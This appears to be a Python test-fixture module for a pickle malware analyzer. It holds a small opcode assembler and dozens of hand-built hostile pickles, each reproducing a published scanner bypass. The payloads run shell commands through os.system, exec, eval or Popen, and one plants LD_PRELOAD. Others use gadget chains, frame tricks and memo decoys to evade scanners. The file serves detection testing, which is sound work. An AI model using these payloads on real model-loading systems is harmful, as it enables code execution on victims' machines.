"""Hostile pickles, written opcode by opcode, each named after the technique it reproduces.

Nothing here is ever loaded: the samples only exist to be read by the analyzer. The
:class:`Asm` assembler writes raw opcodes so that tests can build streams no pickler would emit
(decoy POPs, computed STACK_GLOBAL operands, broken frames, truncated payloads).
"""

from __future__ import annotations

import base64
import pickle
import struct


class Asm:
    """A tiny pickle assembler: each method appends one opcode with its argument."""

    def __init__(self, proto: int | None = None) -> None:
        self.out = bytearray()
        if proto is not None:
            self.proto(proto)

    def raw(self, data: bytes) -> Asm:
        self.out += data
        return self

    def bytes(self) -> bytes:
        return bytes(self.out)

    # ---- structure ------------------------------------------------------------------
    def proto(self, n: int) -> Asm:
        return self.raw(pickle.PROTO + bytes([n]))

    def frame(self, n: int) -> Asm:
        return self.raw(pickle.FRAME + struct.pack("<Q", n))

    def stop(self) -> Asm:
        return self.raw(pickle.STOP)

    def mark(self) -> Asm:
        return self.raw(pickle.MARK)

    def pop(self) -> Asm:
        return self.raw(pickle.POP)

    def pop_mark(self) -> Asm:
        return self.raw(pickle.POP_MARK)

    def dup(self) -> Asm:
        return self.raw(pickle.DUP)

    # ---- constants ------------------------------------------------------------------
    def none(self) -> Asm:
        return self.raw(pickle.NONE)

    def int1(self, n: int) -> Asm:
        return self.raw(pickle.BININT1 + bytes([n]))

    def binint(self, n: int) -> Asm:
        return self.raw(pickle.BININT + struct.pack("<i", n))

    def unicode(self, text: str) -> Asm:
        """SHORT_BINUNICODE or BINUNICODE, whichever fits."""
        raw = text.encode("utf-8")
        if len(raw) < 256:
            return self.raw(pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw)
        return self.raw(pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw)

    def binunicode(self, text: str) -> Asm:
        raw = text.encode("utf-8")
        return self.raw(pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw)

    def binunicode8(self, text: str) -> Asm:
        raw = text.encode("utf-8")
        return self.raw(pickle.BINUNICODE8 + struct.pack("<Q", len(raw)) + raw)

    def text0(self, text: str) -> Asm:
        """Protocol-0 UNICODE (raw-unicode-escape, newline-terminated)."""
        return self.raw(pickle.UNICODE + text.encode("raw-unicode-escape") + b"\n")

    def string0(self, text: str) -> Asm:
        """Protocol-0 STRING (quoted repr)."""
        return self.raw(pickle.STRING + repr(text).encode("ascii") + b"\n")

    def binstring(self, data: bytes) -> Asm:
        return self.raw(pickle.BINSTRING + struct.pack("<i", len(data)) + data)

    def short_binbytes(self, data: bytes) -> Asm:
        return self.raw(pickle.SHORT_BINBYTES + bytes([len(data)]) + data)

    def binbytes(self, data: bytes) -> Asm:
        return self.raw(pickle.BINBYTES + struct.pack("<I", len(data)) + data)

    def empty_dict(self) -> Asm:
        return self.raw(pickle.EMPTY_DICT)

    def empty_list(self) -> Asm:
        return self.raw(pickle.EMPTY_LIST)

    def empty_tuple(self) -> Asm:
        return self.raw(pickle.EMPTY_TUPLE)

    # ---- containers -----------------------------------------------------------------
    def tuple(self) -> Asm:
        return self.raw(pickle.TUPLE)

    def tuple1(self) -> Asm:
        return self.raw(pickle.TUPLE1)

    def tuple2(self) -> Asm:
        return self.raw(pickle.TUPLE2)

    def setitem(self) -> Asm:
        return self.raw(pickle.SETITEM)

    def setitems(self) -> Asm:
        return self.raw(pickle.SETITEMS)

    def appends(self) -> Asm:
        return self.raw(pickle.APPENDS)

    def append(self) -> Asm:
        return self.raw(pickle.APPEND)

    # ---- memo -----------------------------------------------------------------------
    def memoize(self) -> Asm:
        return self.raw(pickle.MEMOIZE)

    def binput(self, i: int) -> Asm:
        return self.raw(pickle.BINPUT + bytes([i]))

    def binget(self, i: int) -> Asm:
        return self.raw(pickle.BINGET + bytes([i]))

    def long_binget(self, i: int) -> Asm:
        return self.raw(pickle.LONG_BINGET + struct.pack("<I", i))

    def put0(self, i: int) -> Asm:
        return self.raw(pickle.PUT + str(i).encode() + b"\n")

    def get0(self, i: int) -> Asm:
        return self.raw(pickle.GET + str(i).encode() + b"\n")

    # ---- imports and calls ----------------------------------------------------------
    def global_(self, module: str, name: str) -> Asm:
        return self.raw(pickle.GLOBAL + f"{module}\n{name}\n".encode())

    def stack_global(self, module: str | None = None, name: str | None = None) -> Asm:
        if module is not None and name is not None:
            self.unicode(module).unicode(name)
        return self.raw(pickle.STACK_GLOBAL)

    def inst(self, module: str, name: str) -> Asm:
        return self.raw(pickle.INST + f"{module}\n{name}\n".encode())

    def obj(self) -> Asm:
        return self.raw(pickle.OBJ)

    def reduce(self) -> Asm:
        return self.raw(pickle.REDUCE)

    def newobj(self) -> Asm:
        return self.raw(pickle.NEWOBJ)

    def newobj_ex(self) -> Asm:
        return self.raw(pickle.NEWOBJ_EX)

    def build(self) -> Asm:
        return self.raw(pickle.BUILD)

    def binpersid(self) -> Asm:
        return self.raw(pickle.BINPERSID)

    def call(self, module: str, name: str, *args: str) -> Asm:
        """``module.name(*args)`` with GLOBAL + string args + TUPLE + REDUCE."""
        self.global_(module, name).mark()
        for arg in args:
            self.unicode(arg)
        return self.tuple().reduce()


# ---- samples, one per technique --------------------------------------------------------


def reduce_call(module: str, name: str, arg: str, proto: int = 2) -> bytes:
    """The classic ``__reduce__`` payload: GLOBAL + REDUCE (picklescan malicious1/2)."""
    return Asm(proto).call(module, name, arg).stop().bytes()


def stack_global_call(module: str, name: str, arg: str) -> bytes:
    """Protocol 4: STACK_GLOBAL with string literals + MEMOIZE (picklescan malicious1_v4)."""
    a = Asm(4).stack_global(module, name).memoize()
    return a.unicode(arg).tuple1().reduce().stop().bytes()


def memo_decoy_stack_global() -> bytes:
    """CTF "Safe Pickle" / picklescan malicious11: names PUT in the memo, decoy POPs, GETs."""
    a = Asm()
    a.text0("os").put0(2).pop().text0("system").put0(3).pop()
    a.text0("torch").put0(0).pop().text0("LongStorage").put0(1).pop()
    a.get0(2).get0(3).stack_global().mark().text0("id").tuple().reduce().stop()
    return a.bytes()


def string_operands_stack_global() -> bytes:
    """GHSA-9gvj-pp9x (picklescan malicious23): STACK_GLOBAL operands pushed by STRING."""
    a = Asm().string0("os").string0("system").stack_global()
    return a.string0("ls").tuple1().reduce().stop().bytes()


def int_operand_type_confusion() -> bytes:
    """picklescan type-confusion-exploit: payload first, then STACK_GLOBAL(42, 'os')."""
    a = Asm(4).global_("os", "system").unicode("echo confused").tuple1().reduce().pop()
    a.binint(42).memoize().unicode("os").memoize().binget(0).binget(1).stack_global()
    return a.int1(66).stop().bytes()


def missing_memo_key() -> bytes:
    """picklescan keyerror-exploit: payload first, then BINGET of a key never PUT."""
    a = Asm(4).global_("os", "system").unicode("id").tuple1().reduce().pop()
    return a.binget(7).unicode("x").stack_global().stop().bytes()


def nullifai_truncated() -> bytes:
    """ReversingLabs nullifAI / picklescan broken_model.pkl: exec, then a huge BINUNICODE."""
    a = Asm().global_("builtins", "exec").mark()
    return a.raw(pickle.BINUNICODE + struct.pack("<I", 0x7FFF_FFF0) + b"f = open('x'); ").bytes()


def junk_after_stop() -> bytes:
    """picklescan malicious-invalid-bytes.pkl: a complete payload, then junk bytes."""
    return reduce_call("os", "system", "cat flag.txt", proto=4) + b"\n\n\t\t\x00junk"


def unknown_opcode_after_payload() -> bytes:
    """fickling #322: an opcode the scanner does not know (here a truly invalid one)."""
    return Asm(2).call("os", "system", "id").raw(b"\xff").stop().bytes()


def frame_straddle() -> bytes:
    """fickling test_frame_boundary_divergence: BINBYTES straddles the declared FRAME."""
    payload = b"A" * 0x107
    return (
        Asm(4)
        .frame(4)
        .raw(pickle.BINBYTES + struct.pack("<I", len(payload)) + payload)
        .stop()
        .bytes()
    )


def frame_beyond_data() -> bytes:
    """A FRAME that declares more bytes than the file holds (payload still inside)."""
    body = Asm().call("os", "system", "id").stop().bytes()
    return Asm(4).frame(len(body) + 1000).raw(body).bytes()


def ext_code(code: int = 1) -> bytes:
    """ModelAudit PR #493: EXT1/EXT2/EXT4 copyreg extension codes instead of names."""
    return Asm(2).raw(pickle.EXT1 + bytes([code])).unicode("id").tuple1().reduce().stop().bytes()


def persistent_id() -> bytes:
    """ModelAudit PR #1532: BINPERSID hands a value to the loader's persistent_load."""
    return Asm(2).unicode("payload-id").binpersid().stop().bytes()


def module_state_override() -> bytes:
    """picklescan sys_module_override_sploit.pkl: BUILD writes onto a module, read back."""
    a = Asm(4)
    a.unicode("torch._utils").memoize().unicode("_rebuild_tensor").memoize()  # memo 0, 1
    a.stack_global().memoize().pop()  # memo 2
    a.unicode("torch").unicode("_utils").stack_global().memoize().pop()  # memo 3: the module
    a.binget(3).empty_dict().binget(1).unicode("builtins").setitem().build().pop()
    a.binget(0).binget(1).stack_global()  # now reads 'builtins'
    a.binget(3).empty_dict().binget(1).unicode("eval").setitem().build().pop()
    a.binget(0).binget(1).stack_global()  # now reads 'eval'
    a.stack_global().unicode("print('pwned')").tuple1().reduce().stop()
    return a.bytes()


def environ_write() -> bytes:
    """SETITEMS straight into os.environ: LD_PRELOAD planted while loading."""
    a = Asm(2).global_("os", "environ").mark().unicode("LD_PRELOAD").unicode("/tmp/x.so")
    return a.setitems().stop().bytes()


def numpy_size_gadget() -> bytes:
    """modelscan #330: BUILD puts a namespace into numpy.size's attributes."""
    a = Asm(4).stack_global("numpy", "size").memoize()
    a.empty_dict().unicode("shape").stack_global("numpy", "__builtins__").setitem().build()
    return a.stop().bytes()


def attrgetter_chain() -> bytes:
    """GHSA-46h3-79wf-xr6c / malicious12: attrgetter('system')(__import__('os'))(cmd)."""
    a = Asm(4).stack_global("operator", "attrgetter").unicode("system").tuple1().reduce()
    a.stack_global("builtins", "__import__").unicode("os").tuple1().reduce()
    return a.tuple1().reduce().unicode("echo pwned").tuple1().reduce().stop().bytes()


def methodcaller_locate() -> bytes:
    """GHSA-84r2-jw7c-4r5q: methodcaller('system', cmd)(pydoc.locate('os'))."""
    a = Asm(4).stack_global("_operator", "methodcaller")
    a.unicode("system").unicode("echo pwned").tuple2().reduce()
    a.stack_global("pydoc", "locate").unicode("os").tuple1().reduce()
    return a.tuple1().reduce().stop().bytes()


def resolve_name_gadget() -> bytes:
    """GHSA-vvpj-8cmc-gx39: pkgutil.resolve_name('os:system')('id')."""
    a = Asm(4).stack_global("pkgutil", "resolve_name").unicode("os:system").tuple1().reduce()
    return a.unicode("id").tuple1().reduce().stop().bytes()


def partial_hidden_callable() -> bytes:
    """picklescan malicious19: functools.partial(torch.load, path) called later."""
    a = Asm(2).global_("functools", "partial").mark().global_("torch.serialization", "load")
    a.unicode("other_model.bin").tuple().reduce()
    return a.empty_tuple().reduce().stop().bytes()


def inst_call() -> bytes:
    """picklescan malicious10: protocol-0 INST calls builtins.exec (no REDUCE)."""
    return Asm().mark().text0("print(1)").inst("builtins", "exec").stop().bytes()


def obj_call() -> bytes:
    """OBJ: MARK, class, args, OBJ (protocol 1)."""
    a = Asm().mark().global_("subprocess", "Popen").text0("id")
    return a.obj().stop().bytes()


def newobj_call() -> bytes:
    """NEWOBJ: cls.__new__(cls, *args)."""
    a = Asm(2).global_("subprocess", "Popen").unicode("id").tuple1()
    return a.newobj().stop().bytes()


def newobj_ex_call() -> bytes:
    """ModelAudit test_newobj_ex: NEWOBJ_EX with args and kwargs."""
    a = Asm(4).stack_global("subprocess", "Popen").unicode("id").tuple1()
    a.empty_dict().unicode("shell").raw(pickle.NEWTRUE).setitem()
    return a.newobj_ex().stop().bytes()


def discarded_call() -> bytes:
    """fickling GHSA-mxhj-88fx-4pcv: the call's result is POPped; the pickle returns None."""
    return Asm(2).call("os", "system", "id").pop().none().stop().bytes()


def unknown_with_code_argument() -> bytes:
    """An unlisted helper that hands its argument to exec: only the argument gives it away."""
    return reduce_call("acme_tools.runner", "run_snippet", "import os; os.system('id')")


def multi_stream() -> bytes:
    """picklescan malicious6: a benign pickle, then a second one with the payload."""
    return pickle.dumps(["a", "b"], protocol=2) + reduce_call("os", "system", "id")


def duplicate_proto() -> bytes:
    """fickling DuplicateProto: a second PROTO in the middle of the stream."""
    return Asm(2).none().pop().proto(4).none().stop().bytes()


def proto_above_5() -> bytes:
    """A protocol number no Python release defines."""
    return Asm(9).none().stop().bytes()


def huge_declared_length() -> bytes:
    """A payload, then BINUNICODE8 that claims 2**62 bytes (scanner-resource attack)."""
    body = Asm(4).call("os", "system", "id").pop()
    return body.raw(pickle.BINUNICODE8 + struct.pack("<Q", 2**62) + b"xyz").bytes()


def memo_fanout(gets: int, items: int = 1000) -> bytes:
    """One big list in the memo, pushed ``gets`` times (expansion attack)."""
    a = Asm(4).empty_list().memoize().mark()
    for i in range(items):
        a.binint(i)
    a.appends().pop().empty_list()
    fan = pickle.BINGET + b"\x00"
    for start in range(0, gets, 10_000):
        a.mark().raw(fan * min(10_000, gets - start)).appends()
    return a.stop().bytes()


def deep_marks(depth: int) -> bytes:
    """MARK nested ``depth`` times (deep structure)."""
    return Asm(2).raw(pickle.MARK * depth).raw(pickle.TUPLE * depth).stop().bytes()


def deep_lists(depth: int) -> bytes:
    """``depth`` lists each appended into the previous one."""
    return Asm(2).raw(pickle.EMPTY_LIST * depth).raw(pickle.APPEND * (depth - 1)).stop().bytes()


def embedded_raw(inner: bytes) -> bytes:
    """ModelAudit nested_pickle_raw: an inner pickle as a BINBYTES value of a dict."""
    a = Asm(4).empty_dict().unicode("blob").binbytes(inner).setitem()
    return a.stop().bytes()


def embedded_base64(inner: bytes) -> bytes:
    """ModelAudit nested_pickle_base64: the inner pickle base64-encoded in a string."""
    a = Asm(4).empty_dict().unicode("blob").unicode(base64.b64encode(inner).decode()).setitem()
    return a.stop().bytes()


def embedded_hex(inner: bytes) -> bytes:
    """ModelAudit nested_pickle_hex: the inner pickle hex-encoded in a string."""
    a = Asm(4).empty_dict().unicode("blob").unicode(inner.hex()).setitem()
    return a.stop().bytes()


def embedded_codecs(inner: bytes) -> bytes:
    """How protocol 2 spells bytes: _codecs.encode('<latin-1 text>', 'latin1')."""
    a = Asm(2).global_("_codecs", "encode").unicode(inner.decode("latin-1"))
    return a.unicode("latin1").tuple2().reduce().stop().bytes()


def torch_legacy_computed_magic() -> bytes:
    """picklescan pytorch_magic_bypass.pt: the legacy magic number computed by eval."""
    magic = Asm(2).call("builtins", "eval", "0x1950A86A20F9469CFC6C").stop().bytes()
    version = pickle.dumps(1001, protocol=2)
    info = pickle.dumps({}, protocol=2)
    objects = Asm(2).call("posix", "system", "echo pwned").stop().bytes()
    return magic + version + info + pickle.dumps([], protocol=2) + objects


def frame_restarted() -> bytes:
    """fickling frame divergence: a FRAME starts before the previous one ended."""
    return Asm(4).frame(30).none().pop().frame(2).none().stop().bytes() + b"\x00" * 20


def stop_inside_frame() -> bytes:
    """A frame that continues after STOP: C and Python loaders resume at different places."""
    second = reduce_call("os", "system", "id", proto=4)
    return Asm(4).frame(2 + len(second)).none().stop().raw(second).bytes()


def misplaced_proto() -> bytes:
    """fickling MisplacedProto: PROTO after the first opcode."""
    return Asm().none().pop().proto(2).none().stop().bytes()


def bound_method_of_created_object() -> bytes:
    """picklescan malicious15 style: getattr(Runner(), 'execute')(code), class unlisted."""
    a = Asm(2).global_("builtins", "getattr").mark()
    a.global_("acme_tools.runner", "Runner").empty_tuple().reduce().unicode("execute").tuple()
    a.reduce().unicode("__import__('os').system('id')").tuple1().reduce()
    return a.stop().bytes()
